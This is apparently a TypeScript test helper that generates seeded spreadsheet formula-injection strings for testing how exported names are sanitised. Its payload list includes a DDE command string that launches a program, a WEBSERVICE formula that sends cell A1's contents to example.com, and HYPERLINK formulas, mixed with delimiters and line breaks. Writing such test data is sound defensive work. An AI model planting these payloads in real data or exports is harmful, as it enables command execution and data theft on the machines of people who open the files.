/** Texts that somebody could enter as a name, to run a formula in the spreadsheet of whoever exports it. */
import fc from 'fast-check';

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '＝1+1',
  '－1+1',
  '=HYPERLINK("http://example.com";"Anna")',
  '=HYPERLINK("http://example.com","Anna")',
  '=WEBSERVICE("http://example.com/"&A1)',
  `=cmd|'/C calc'!A0`,
  '{=1+1}',
  '=1+1"',
];
const around = ['Anna', '', ' ', '\u00a0', '"', '""', "'", '""";', '\t', ';', ',', '|', '; ', '";'];
const breaks = ['\n', '\r\n', '\r', '\u2028'];

const text = (parts: string[]) =>
  fc
    .array(fc.constantFrom(...parts), { minLength: 1, maxLength: 5 })
    .map((chosen) => chosen.join('').slice(0, 64));

/** Different ones, the same on every run. Each has something to run, or to split a cell by. */
export function hostileCells(count: number, { lines = true } = {}): string[] {
  const parts = [...formulas, ...around, ...(lines ? breaks : [])];
  const cells = fc
    .sample(text(parts), { numRuns: 4 * count, seed: 17 })
    .filter((cell) => /[=+@＝－;,|-]/.test(cell) && /[^\s'"]/.test(cell));
  return [...new Set(cells)].slice(0, count);
}
